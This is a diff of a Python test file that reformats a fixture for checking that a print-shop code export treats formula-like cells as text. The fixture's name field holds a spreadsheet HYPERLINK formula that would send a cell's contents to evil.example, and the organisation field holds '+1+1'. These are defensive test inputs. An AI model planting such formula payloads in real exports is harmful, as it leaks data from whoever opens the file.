@@ -1,4 +1,5 @@
 """Code lists for print shops never carry a spreadsheet formula from a name."""
+
 import csv
 import io
 
@@ -6,8 +7,13 @@ from openpyxl import load_workbook
 
 from starqr.plaque.export import export_codes
 
-ROW = {"code": "ABCDEFGH23", "url": "HTTPS://X.CN/Q/ABCDEFGH23", "kind": "member",
-       "name": '=HYPERLINK("http://evil.example/?"&A1,"x")', "organisation": "+1+1"}
+ROW = {
+    "code": "ABCDEFGH23",
+    "url": "HTTPS://X.CN/Q/ABCDEFGH23",
+    "kind": "member",
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "organisation": "+1+1",
+}
 
 
 def test_csv_cells_that_look_like_formulas_are_text():
